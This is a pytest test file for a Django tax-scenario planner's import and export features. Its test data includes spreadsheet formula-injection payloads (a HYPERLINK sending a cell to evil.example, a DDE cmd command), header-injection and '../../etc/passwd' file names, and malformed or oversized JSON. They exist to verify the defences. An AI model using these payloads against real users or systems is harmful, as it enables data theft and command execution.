from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from http import HTTPStatus
from typing import Any
from urllib.parse import urlencode

import numpy as np
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test.client import MULTIPART_CONTENT
from openpyxl import load_workbook

from amtweb.exchange.csv_text import csv_of
from amtweb.exchange.files import FILES as FILES_OF
from amtweb.exchange.incoming import read_document
from amtweb.exchange.subjects import Subject
from amtweb.exchange.tables import Table
from amtweb.exchange.workbook import LONGEST_TEXT, fitting
from amtweb.scenarios.bench import result_of
from amtweb.scenarios.gallery import Example, examples
from amtweb.scenarios.models import Scenario
from amtweb.scenarios.working_copy import DOCUMENT
from calculator.worksheet import printed_forms
from tests.calculator.households import household, structure
from tests.web.reading import Page
from tests.web.visitors import Visitor

pytestmark = pytest.mark.django_db

EXAMPLES = [pytest.param(example, id=example.slug) for example in examples()]
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
FULLWIDTH = "\uff1d\uff0b\uff0d\uff20"
LONGEST_REFUSAL = 0.5
"""Seconds of a processor."""
PAYLOADS = (
    *(FORMULA, "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0"),
    *(
        "http://evil.example/",
        *(f"{sign}1+1" for sign in FULLWIDTH),
        'a","=1+1',
        "mailto:a@b.example",
    ),
)
FILES = {
    "scenario.json": ("amtweb-kept.json", "application/json"),
    "years.csv": ("amtweb-kept-years.csv", "text/csv; charset=utf-8"),
    "lines.csv": ("amtweb-kept-lines.csv", "text/csv; charset=utf-8"),
    "inputs.csv": ("amtweb-kept-inputs.csv", "text/csv; charset=utf-8"),
    "workbook.xlsx": (
        "amtweb-kept.xlsx",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
}


@pytest.fixture
def owner() -> Visitor:
    return Visitor()


def kept(visitor: Visitor, document: dict[str, Any]) -> Scenario:
    """The visitor's scenario of just this document."""
    scenario = visitor.saved(title="Kept")
    scenario.draft, scenario.title = document, document.get("title", "")
    scenario.save()
    return scenario


def file_of(visitor: Visitor, scenario: Scenario, name: str) -> bytes:
    response = visitor.client.get(f"{scenario.get_absolute_url()}download/{name}")
    assert response.status_code == HTTPStatus.OK
    return bytes(response.content)


def rows_of(content: bytes) -> list[list[Any]]:
    text = io.StringIO(content.decode("utf-8-sig"), newline="")
    return list(csv.reader(text, quoting=csv.QUOTE_NONNUMERIC))


def brought(visitor: Visitor, content: bytes, path: str = "/import/") -> Any:
    file = SimpleUploadedFile("scenario.json", content, content_type="application/json")
    return visitor.client.post(path, {"document": file})


def minimal(**changes: Any) -> dict[str, Any]:
    return {"schema_version": 1, "years": [{"year": 2026, "wages": 200_000}]} | changes


def named(title: str) -> dict[str, Any]:
    """A scenario with a text of the visitor's wherever there can be one."""
    return minimal(
        title=title,
        notes=title,
        grants=[
            {"id": title, "kind": "iso", "date": "2023-01-15", "shares": 100, "strike": 1.5},
        ],
        exercises=[
            {
                "id": "e1",
                "grant": title,
                "date": "2026-03-02",
                "shares": 100,
                "fair_market_value": 21.5,
            }
        ],
    )


@pytest.mark.parametrize("example", EXAMPLES)
def test_what_is_downloaded_is_the_same_scenario_when_it_is_imported(
    owner: Visitor, example: Example
) -> None:
    scenario = kept(owner, example.document)
    other = Visitor()

    response = brought(other, file_of(owner, scenario, "scenario.json"))

    assert response.status_code == HTTPStatus.FOUND
    assert response["Location"] == "/planner/"
    assert other.client.session[DOCUMENT] == example.document
    again = other.saved()
    assert result_of(again.draft).to_dict() == result_of(example.document).to_dict()


HOUSEHOLDS = 200


def test_two_hundred_random_scenarios_come_back_as_they_went() -> None:
    random = np.random.default_rng(2026)
    kinds = [
        ("single", 2025, ("larger", "standard", "itemized"), False),
        ("married_filing_jointly", 2025, ("itemized", "larger", "larger"), True),
        ("married_filing_separately", 2025, ("larger", "larger", "larger"), True),
        ("head_of_household", 2024, ("larger", "larger", "itemized", "larger"), True),
    ]
    for number in range(HOUSEHOLDS):
        status, first, deductions, events = kinds[number % len(kinds)]
        document = household(random, structure(status, first, deductions, events=events))
        document |= {"title": f"Household {number} \u202e税", "notes": 'a\n"b" \\ </script>'}
        sent = FILES_OF["scenario.json"].make(Subject(document, "/planner/", ""))

        assert read_document(sent) == document
        assert result_of(read_document(sent)).to_dict() == result_of(document).to_dict()


def test_the_bench_and_the_library_lead_to_the_downloads(owner: Visitor) -> None:
    scenario = owner.saved(title="Kept")
    address = f"{scenario.get_absolute_url()}download/"

    for path in (scenario.get_absolute_url(), "/scenarios/"):
        links = [a.attributes.get("href") for a in owner.page(path).all("a")]
        assert address in links
    offered = {
        a.attributes.get("href", "").removeprefix(address) for a in owner.page(address).all("a")
    }
    assert offered >= FILES.keys()


def test_the_library_takes_a_file(owner: Visitor) -> None:
    page = owner.page("/scenarios/")

    (form,) = (f for f in page.all("form") if f.attributes["action"] == "/import/")
    assert form.attributes["enctype"] == "multipart/form-data"
    (control,) = (e for e in form.elements if e.attributes.get("type") == "file")
    assert control.attributes["name"] == "document"


@pytest.mark.parametrize("name", FILES)
def test_a_file_is_to_be_kept_and_is_its_owners_alone(owner: Visitor, name: str) -> None:
    scenario = owner.saved(title="Kept")
    file_name, content_type = FILES[name]

    response = owner.client.get(f"{scenario.get_absolute_url()}download/{name}")

    assert response["Content-Disposition"] == f'attachment; filename="{file_name}"'
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    stranger = Visitor().client.get(f"{scenario.get_absolute_url()}download/{name}")
    assert stranger.status_code == HTTPStatus.NOT_FOUND
    assert "Content-Disposition" not in stranger


@pytest.mark.parametrize(
    "title",
    ['"\r\nSet-Cookie: a=b', "../../etc/passwd", "a;b\\c", "税", "é" * 120, "con", "", ".."],
)
def test_no_title_makes_an_unsafe_file_name(owner: Visitor, title: str) -> None:
    scenario = kept(owner, minimal())
    scenario.title = title
    scenario.save()

    response = owner.client.get(f"{scenario.get_absolute_url()}download/years.csv")

    header = response["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="amtweb-[a-z0-9_-]{1,60}-years\.csv"', header)


@pytest.mark.parametrize("example", EXAMPLES)
def test_the_tables_hold_every_amount_of_the_result(owner: Visitor, example: Example) -> None:
    scenario = kept(owner, example.document)
    result = result_of(example.document)

    heading, *years = rows_of(file_of(owner, scenario, "years.csv"))
    lines = rows_of(file_of(owner, scenario, "lines.csv"))[1:]

    for name in ("year", "amt", "credit_balance", "federal_tax"):
        column = heading.index(name)
        assert [row[column] for row in years] == [getattr(y, name) for y in result.years]
    assert [row[4] for row in lines] == [
        line.amount
        for y in result.years
        for sheet in printed_forms(y.forms)
        for line in sheet.lines
    ]


@pytest.mark.parametrize("example", EXAMPLES)
def test_the_workbook_holds_what_the_csv_files_hold(owner: Visitor, example: Example) -> None:
    scenario = kept(owner, example.document)

    book = load_workbook(io.BytesIO(file_of(owner, scenario, "workbook.xlsx")))

    assert book.sheetnames == ["Years", "Lines", "Inputs"]
    for sheet in ("Years", "Lines"):
        rows = [list(row) for row in book[sheet].values]
        # A workbook holds 16 or 17 significant digits.
        expected = rows_of(file_of(owner, scenario, f"{sheet.lower()}.csv"))
        assert [[type(cell) is str for cell in row] for row in rows] == [
            [type(cell) is str for cell in row] for row in expected
        ]
        assert [
            [cell if isinstance(cell, str) else pytest.approx(cell) for cell in row]
            for row in expected
        ] == rows


def test_a_workbook_can_be_read_as_it_opens(owner: Visitor) -> None:
    scenario = kept(owner, examples()[0].document)

    book = load_workbook(io.BytesIO(file_of(owner, scenario, "workbook.xlsx")))

    assert {sheet.title: sheet.freeze_panes for sheet in book} == {
        "Years": "B2",
        "Lines": "E2",
        "Inputs": "B2",
    }
    for sheet in book:
        # Columns beside each other that are alike stand in the file as one.
        widths = {
            number: columns.width
            for columns in sheet.column_dimensions.values()
            for number in range(columns.min, columns.max + 1)
        }
        for number, column in enumerate(sheet.iter_cols(values_only=True), start=1):
            shown = [f"{v:,.2f}" if isinstance(v, float) else str(v) for v in column]
            assert widths[number] >= min(max(map(len, shown)), 60)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_in_a_workbook_is_never_a_formula_or_a_link(owner: Visitor, payload: str) -> None:
    content = file_of(owner, kept(owner, named(payload)), "workbook.xlsx")

    cells = [cell for sheet in load_workbook(io.BytesIO(content)) for row in sheet for cell in row]
    assert payload in [cell.value for cell in cells if cell.data_type == "s"]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name) for name in parts.namelist() if "/worksheets/" in name]
        assert len(sheets) == 3
        assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
        assert not [name for name in parts.namelist() if "external" in name or "vba" in name]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_in_csv_never_begins_a_formula(owner: Visitor, payload: str) -> None:
    rows = rows_of(file_of(owner, kept(owner, named(payload)), "inputs.csv"))

    values = {row[0]: row[2] for row in rows}
    assert all(len(row) == 3 for row in rows)
    assert values["title"].removeprefix("'") == payload
    assert values["grants[0].id"] == values["exercises[0].grant"] == values["title"]
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [text for text in texts if text.startswith(tuple(f"=+-@\t\r\n{FULLWIDTH}"))]


def test_a_negative_number_stays_a_number() -> None:
    table = Table("T", ("text", "number"), (("-5", -5), ("\t=1", -5.5)), in_dollars=False)

    expected = '"text","number"\r\n"\'-5",-5\r\n"\'\t=1",-5.5\r\n'
    assert expected == csv_of(table).decode("utf-8-sig")


def test_text_that_is_too_long_for_a_cell_is_marked_where_it_is_cut() -> None:
    assert fitting("a" * LONGEST_TEXT) == "a" * LONGEST_TEXT
    cut = fitting("a" * (LONGEST_TEXT + 1))
    assert len(cut) == LONGEST_TEXT
    assert cut.endswith("… (cut)")


def text_of(**changes: Any) -> bytes:
    return json.dumps(minimal(**changes)).encode()


HOSTILE = {
    "nothing": b"",
    "blanks": b" \n ",
    "not JSON": b"<html>",
    "cut short": text_of()[:-1],
    "two documents": text_of() * 2,
    "a list": b"[1, 2]",
    "null": b"null",
    "text": b'"scenario"',
    "not UTF-8": b'{"title": "\xff"}',
    "UTF-16": text_of().decode().encode("utf-16"),
    "a byte order mark": b"\xef\xbb\xbf" + text_of(),
    "deep": b'{"years": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep and never closed": b'{"a":' * 150_000,
    "NaN": text_of(years=[{"year": 2026, "wages": float("nan")}]),
    "infinity": text_of(years=[{"year": 2026, "wages": float("inf")}]),
    "a number that overflows": text_of().replace(b"200000", b"1e999"),
    "a million digits": text_of().replace(b"200000", b"9" * 1_000_000),
    "a duplicate key": text_of().replace(b'"years"', b'"title": "a", "title": "b", "years"'),
    "a duplicate key further in": text_of().replace(b'"wages"', b'"wages": 1, "wages"'),
    "no version": b'{"years": [{"year": 2026}]}',
    "a later version": text_of(schema_version=2),
    "a version in words": text_of(schema_version="1"),
    "true for the version": text_of(schema_version=True),
    "no years": text_of(years=[]),
    "years of another type": text_of(years={"year": 2026}),
    "a number as text": text_of(years=[{"year": 2026, "wages": "1"}]),
    "true for a number": text_of(years=[{"year": 2026, "wages": True}]),
    "a list for a number": text_of(years=[{"year": 2026, "wages": [1, 2]}]),
    "an unknown field": text_of(owner="someone"),
    "a prototype": text_of(__proto__={"a": 1}, constructor={}),
    "a control character": text_of(title="a\x00b"),
    "half a character": text_of(title="\ud800"),
    "half a character in a key": text_of(**{"\ud800\x00": 1}),
    "no character": text_of(title="\uffff"),
    "a long title": text_of(title="a" * 121),
    "a long identifier": text_of(grants=[{"id": "g" * 65}]),
    "far too many years": text_of(years=[{"year": 2026}] * 30_000),
    "many unknown fields": text_of(**{f"field{i}": i for i in range(50_000)}),
    "a wrong last row": text_of(
        years=[{"year": 2026}, {"year": 2027}, {"year": 2028, "wages": -1}]
    ),
    "a day that is none": text_of(grants=[{"id": "g", "kind": "iso", "date": "2023-02-30"}]),
    "more values than any scenario has": text_of(years=[{"year": 2026, "wages": [0] * 60_000}]),
    "many empty objects": b'{"years": [' + b"{}," * 60_000 + b"{}]}",
    "a long text": text_of(notes="a" * 20_001),
    "a long key": text_of(**{"k" * 20_001: 1}),
    "an exponent that no one can print": text_of().replace(b"200000", b"1e1000000"),
    "digits of another script": text_of().replace(b"200000", "\u0661".encode()),
    "underscored digits": text_of().replace(b"200000", b"1_000"),
    "more than a trillion": text_of(years=[{"year": 2026, "wages": 1e13}]),
    "fewer shares than none": text_of(
        grants=[{"id": "g", "kind": "iso", "date": "2023-02-01", "shares": -5, "strike": 1}]
    ),
    "a year out of every table": text_of(years=[{"year": 9999}]),
    "a sale of what is not there": text_of(
        sales=[{"id": "s", "from": "x", "date": "2026-05-01", "shares": 1, "price": 1}]
    ),
    "markup for a key": text_of(**{"<script>x()</script>": 1}),
    "what is not modelled": text_of(household={"state": "CA"}),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_a_file_that_cannot_be_used_leaves_everything_as_it_was(
    owner: Visitor, content: bytes
) -> None:
    owner.edit(htmx=True, title="Being worked on")
    before = dict(owner.client.session)

    begun = time.process_time()
    response = brought(owner, content)
    took = time.process_time() - begun

    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    assert took < LONGEST_REFUSAL
    (problems,) = (e for e in Page(response.content).all("section"))
    assert "Nothing was imported" in problems.text
    assert dict(owner.client.session) == before
    assert Scenario.objects.count() == 0


def as_text(content: bytes) -> str | None:
    try:
        return content.decode()
    except UnicodeDecodeError:
        return None


PASTED = {name: text for name, content in HOSTILE.items() if (text := as_text(content))}


@pytest.mark.parametrize("pasted", PASTED.values(), ids=PASTED)
def test_pasted_text_that_cannot_be_used_is_refused_and_still_there(
    owner: Visitor, pasted: str
) -> None:
    response = owner.client.post("/import/", {"pasted": pasted})

    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    page = Page(response.content)
    assert page.find("pasted").text == pasted
    assert DOCUMENT not in owner.client.session


def test_pasted_text_is_the_same_scenario_as_its_file(owner: Visitor) -> None:
    document = examples()[0].document

    response = owner.client.post("/import/", {"pasted": f"\n{json.dumps(document)}\r\n"})

    assert response.status_code == HTTPStatus.FOUND
    assert owner.client.session[DOCUMENT] == document


def test_a_document_of_a_later_version_is_told_from_a_wrong_one(owner: Visitor) -> None:
    page = Page(brought(owner, text_of(schema_version=99, quantum=1)).content)

    (problems,) = (e for e in page.all("section"))
    assert "schema_version" in problems.text
    assert "the newest that is known here is 1" in problems.text


@pytest.mark.parametrize("typed", [{"title": "Being worked on"}, {"years[0].wages": "lots"}])
def test_an_import_can_be_undone(owner: Visitor, typed: dict[str, str]) -> None:
    owner.edit(htmx=True, **typed)
    before = owner.fields()

    assert brought(owner, text_of(title="Brought")).status_code == HTTPStatus.FOUND
    fields = owner.fields()
    assert fields["title"] == "Brought"
    assert "undo" in owner.page().buttons()
    owner.send(fields, op="undo")

    after = owner.fields()
    changing = ("csrfmiddlewaretoken", "tab", "sequence", "selected_year")
    assert {k: v for k, v in after.items() if k not in changing} == {
        k: v for k, v in before.items() if k not in changing
    }


def test_a_newcomers_import_replaces_nothing_and_offers_no_undo(owner: Visitor) -> None:
    brought(owner, text_of(title="Brought"))

    assert "undo" not in owner.page().buttons()


FORMS = ("/planner/", "/import/", "/analyses/pairing/")


@pytest.mark.parametrize("address", FORMS)
@pytest.mark.parametrize("kind", [MULTIPART_CONTENT, "application/x-www-form-urlencoded"])
def test_a_form_that_is_too_large_is_told_so_in_words(
    owner: Visitor, address: str, kind: str
) -> None:
    owner.edit(htmx=True, title="Being worked on")
    before = dict(owner.client.session)
    fields = {"title": "a" * (2 * 1024 * 1024 + 1), "op": "save"}
    body: Any = fields if kind == MULTIPART_CONTENT else urlencode(fields)

    response = owner.client.post(address, body, content_type=kind)

    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
    assert "More than 2 MB were sent" in Page(response.content).find("main").text
    assert response["Cache-Control"] == "private, no-store"
    assert dict(owner.client.session) == before
    assert Scenario.objects.count() == 0


def test_an_edit_that_is_too_large_leaves_the_page_and_says_so(owner: Visitor) -> None:
    response = owner.edit(htmx=True, notes="a" * (2 * 1024 * 1024 + 1))

    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
    (piece,) = Page(response.content).pieces
    assert piece.attributes["id"] == "status"
    assert piece.attributes["hx-swap-oob"] == "true"
    assert piece.text.startswith("Not kept: ")
    assert response["HX-Reswap"] == "none"
    assert '{"code":"413","swap":true}' in owner.client.get("/planner/").content.decode()


def test_the_site_in_development_says_the_same(owner: Visitor, settings: Any) -> None:
    settings.ROOT_URLCONF = "amtweb.urls_in_development"

    response = owner.client.post("/planner/", {"title": "a" * (2 * 1024 * 1024 + 1)})

    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE


def test_a_form_of_too_many_fields_is_a_bad_request(owner: Visitor) -> None:
    body = "&".join(f"a{i}=" for i in range(20_001))

    response = owner.client.post(
        "/planner/", body, content_type="application/x-www-form-urlencoded"
    )

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert "Bad request" in response.content.decode()


def test_everything_that_is_wrong_with_a_file_is_said_at_once(owner: Visitor) -> None:
    wrong = text_of(title=7, years=[{"year": 2026, "wages": "lots"}], grantz=[])

    page = Page(brought(owner, wrong).content)

    paths = [code.text for code in page.all("code")]
    assert sorted(paths) == ["grantz", "title", "years[0].wages"]


@pytest.mark.parametrize("size", [1024 * 1024 + 1, 3 * 1024 * 1024])
def test_a_file_that_is_too_large_is_refused_by_its_size(owner: Visitor, size: int) -> None:
    response = brought(owner, text_of().ljust(size))

    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
    assert "The file is larger than 1,024 KiB." in response.content.decode()
    assert DOCUMENT not in owner.client.session


def test_a_file_of_the_largest_size_is_taken(owner: Visitor) -> None:
    assert brought(owner, text_of().ljust(1024 * 1024)).status_code == HTTPStatus.FOUND


@pytest.mark.parametrize("data", [{}, {"document": '{"schema_version": 1}'}])
def test_without_a_file_nothing_is_imported(owner: Visitor, data: dict[str, str]) -> None:
    response = owner.client.post("/import/", data)

    assert response.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
    assert "Choose a file first, or paste its text." in response.content.decode()
    assert DOCUMENT not in owner.client.session


def test_what_an_import_would_replace_is_said_before(owner: Visitor) -> None:
    assert "takes the place" not in owner.page("/import/").find("main").text

    owner.edit(htmx=True, title="Being worked on")

    assert "takes the place" in owner.page("/import/").find("main").text
